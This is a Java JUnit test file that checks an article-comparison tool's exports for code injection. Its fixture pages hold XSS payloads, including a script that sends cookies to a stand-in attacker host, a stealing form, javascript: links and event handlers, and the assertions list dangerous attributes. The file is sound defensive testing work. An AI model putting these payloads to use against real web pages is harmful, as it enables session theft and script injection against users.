package dev.parallax.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.parallax.cli.ParallaxCommand;
import dev.parallax.article.Article;
import dev.parallax.ingest.ArticleLoader;
import dev.parallax.ingest.LoadResult;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile content end to end: a saved page full of scripts, frames, handlers and javascript: links, and a
 * plain text that spells markup out, are read from disk, compared by the command line, and exported. The
 * article text must stay text everywhere; nothing from it may become code in any export.
 */
class HostileArticleTest {
    @TempDir
    static Path dir;

    private static final String TEXTAREA = "</textarea><script>alert(1)</script>";
    private static Path page;
    private static Path text;
    private static String html;
    private static String markdown;
    private static String json;

    /** The page: the article's paragraphs are ordinary, the markup around and inside them is not. */
    private static final String PAGE = """
            <!DOCTYPE html>
            <html><head><title>Council backs the harbour plan</title>
            <script>document.location = "https://evil.example/?c=" + document.cookie;</script>
            <meta http-equiv="refresh" content="0; url=javascript:alert('refresh')">
            <base href="javascript:alert('base')//">
            </head>
            <body onload="alert('body')">
            <article>
            <h1 onclick="alert('h1')">Council backs the harbour plan</h1>
            <p onmouseover="alert('p')">The city council approved the harbour plan on Monday by 31 votes to 12, \
            after a debate that lasted most of the night.</p>
            <script>alert("inline script inside the article");</script>
            <iframe src="javascript:alert('iframe')" srcdoc="&lt;script&gt;alert(2)&lt;/script&gt;">frame fallback</iframe>
            <p>A resident wrote &lt;/textarea&gt;&lt;script&gt;alert(1)&lt;/script&gt; in the comment form, \
            and <a href="javascript:alert('link')" onclick="alert('click')">the link she sent</a> \
            <img src="x" onerror="alert('img')">did nothing.</p>
            <p>"We will start work in the spring," the mayor, Ana Ruiz, said after the vote.</p>
            <form action="https://evil.example/steal"><textarea name="t">form text</textarea>\
            <button formaction="javascript:alert(3)">Send</button></form>
            <svg onload="alert('svg')"><a xlink:href="javascript:alert(4)"><text>svg link</text></a></svg>
            </article>
            </body></html>
            """;

    /** The plain text: markup spelled out is just characters of a report. */
    private static final String TEXT = """
            Harbour plan approved <script>alert('title')</script>

            The city council approved the harbour plan on Monday by 31 votes to 12, after a debate that lasted \
            most of the night.

            A resident wrote </textarea><script>alert(1)</script> in the comment form, and the link she sent \
            <img src=x onerror=alert(1)> did nothing; another posted [a link](javascript:alert(5)) and \
            <a href="javascript:alert(6)" onclick="alert(7)">click</a>.

            "We will start work in the spring," the mayor, Ana Ruiz <b onmouseover=alert(8)>, said after the vote.

            # not a heading | not | a table *not bold* _not italic_ `not code` &amp; &#60;script&#62;
            """;

    @BeforeAll
    static void compareBothThroughTheCommandLine() throws IOException {
        page = Files.writeString(dir.resolve("page.html"), PAGE);
        text = Files.writeString(dir.resolve("report.txt"), TEXT);
        Path h = dir.resolve("c.html");
        Path m = dir.resolve("c.md");
        Path j = dir.resolve("c.json");
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        int code = ParallaxCommand.run(new String[] {"compare", page.toString(), text.toString(), "--lexical",
                "--html", h.toString(), "--markdown", m.toString(), "--json", j.toString(),
                "--index", dir.resolve("idx").toString()}, new PrintWriter(out), new PrintWriter(err));
        assertEquals(0, code, err.toString());
        html = Files.readString(h);
        markdown = Files.readString(m);
        json = Files.readString(j);
    }

    private static Article load(Path file) {
        LoadResult r = new ArticleLoader().loadFile(file);
        assertTrue(r instanceof LoadResult.Loaded, r.toString());
        return ((LoadResult.Loaded) r).article();
    }

    @Test
    void extractionKeepsTextAsTextAndDropsEveryPieceOfCode() {
        Article a = load(page);
        assertEquals("Council backs the harbour plan", a.title());
        assertTrue(a.text().contains("A resident wrote " + TEXTAREA + " in the comment form"), a.text());
        assertTrue(a.text().contains("the link she sent did nothing."), a.text());
        String everything = a.title() + a.text() + String.join(" ", a.removed());
        for (String code : List.of("alert('", "alert(\"", "alert(2)", "evil.example", "document.cookie", "onload",
                "onclick", "onmouseover", "javascript:", "frame fallback", "svg link", "form text")) {
            assertFalse(everything.contains(code), "code leaked into the article: " + code);
        }
        Article t = load(text);
        assertEquals("Harbour plan approved <script>alert('title')</script>", t.title());
        assertTrue(t.text().contains("A resident wrote " + TEXTAREA + " in the comment form"), t.text());
        assertTrue(t.text().contains("<a href=\"javascript:alert(6)\" onclick=\"alert(7)\">click</a>"), t.text());
    }

    @Test
    void htmlExportHasNoScriptHandlerFrameOrForeignUrlAndItsPolicyForbidsThem() {
        Document doc = Jsoup.parse(html);
        assertTrue(doc.select("script, iframe, frame, object, embed, img, svg, form, textarea, button, input, base, "
                + "link, audio, video, source").isEmpty(), "no element from an article");
        assertEquals(1, doc.select("style").size(), "only the export's own style sheet");
        assertTrue(doc.select("meta[http-equiv~=(?i)refresh]").isEmpty());
        Element csp = doc.selectFirst("head > meta[http-equiv=Content-Security-Policy]");
        assertNotNull(csp, "content security policy");
        assertEquals("default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; "
                + "form-action 'none'", csp.attr("content"));
        assertTrue(doc.head().children().indexOf(csp) < doc.head().children().indexOf(doc.selectFirst("style")),
                "the policy comes before anything it governs");
        for (Element e : doc.getAllElements()) {
            for (Attribute attr : e.attributes()) {
                String name = attr.getKey().toLowerCase(Locale.ROOT);
                String value = attr.getValue().toLowerCase(Locale.ROOT).replaceAll("\\s", "");
                assertFalse(name.startsWith("on"), "handler " + attr + " on <" + e.tagName() + ">");
                assertFalse(List.of("src", "srcset", "srcdoc", "action", "formaction", "data", "xlink:href",
                        "background", "poster").contains(name), attr + " on <" + e.tagName() + ">");
                assertFalse(value.contains("javascript:") || value.contains("vbscript:") || value.contains("data:text"),
                        attr + " on <" + e.tagName() + ">");
                if (name.equals("href")) {
                    assertTrue(value.startsWith("#"), "only links inside the page: " + attr);
                }
                if (name.equals("style")) {
                    assertTrue(value.matches("width:[0-9.]+%"), "only the export's own widths: " + attr);
                }
            }
        }
        String shown = doc.body().text();
        assertTrue(shown.contains("A resident wrote " + TEXTAREA + " in the comment form"), "shown as text");
        assertTrue(shown.contains("<a href=\"javascript:alert(6)\" onclick=\"alert(7)\">click</a>"), shown);
        assertTrue(doc.title().contains("Harbour plan approved <script>alert('title')</script>"), doc.title());
        assertFalse(html.toLowerCase(Locale.ROOT).contains("<script"), "not even in the raw file");
        assertFalse(html.contains("</textarea>"), "not even in the raw file");
        assertTrue(html.contains("&lt;/textarea&gt;&lt;script&gt;alert(1)&lt;/script&gt;"));
    }

    @Test
    void theComparisonFoundTheSharedPassagesSoHostileTextWasInEveryPartOfTheExport() throws IOException {
        JsonNode doc = ContractCheck.assertValid(json);
        assertTrue(doc.get("matches").size() >= 2, json);
        assertTrue(doc.get("quotes").size() >= 1, json);
        assertTrue(doc.get("numbers").size() >= 1, json);
        String a = doc.get("articles").get(0).get("text").asText();
        String b = doc.get("articles").get(1).get("text").asText();
        assertTrue(a.contains(TEXTAREA) && b.contains(TEXTAREA), "JSON keeps the text verbatim");
        boolean matchedHostile = false;
        for (JsonNode m : doc.get("matches")) {
            JsonNode span = m.get("b");
            String passage = b.substring(span.get("start").asInt(), span.get("end").asInt());
            matchedHostile |= passage.contains(TEXTAREA);
        }
        assertTrue(matchedHostile, "the passage with the markup is matched, so it is drawn as a mark in the HTML");
        assertFalse(Jsoup.parse(html).select("a.hl").isEmpty());
    }

    @Test
    void markdownEscapesEveryMarkupCharacterOfTheArticles() {
        assertTrue(markdown.contains("\\</textarea\\>\\<script\\>alert(1)\\</script\\>"), markdown);
        assertTrue(markdown.contains("\\[a link\\](javascript:alert(5))"), "no link can form");
        // every <, >, [, ], & in the file is escaped: none can open a tag, a link or an entity
        assertFalse(Pattern.compile("(?<!\\\\)[<>\\[\\]&]").matcher(markdown).find(), markdown);
        for (String line : markdown.lines().toList()) {
            assertFalse(line.startsWith("# not a heading"), "article text never starts a line");
        }
        assertTrue(markdown.contains("\\&amp; \\&\\#60;script\\&\\#62;"), "entities stay as written");
    }
}
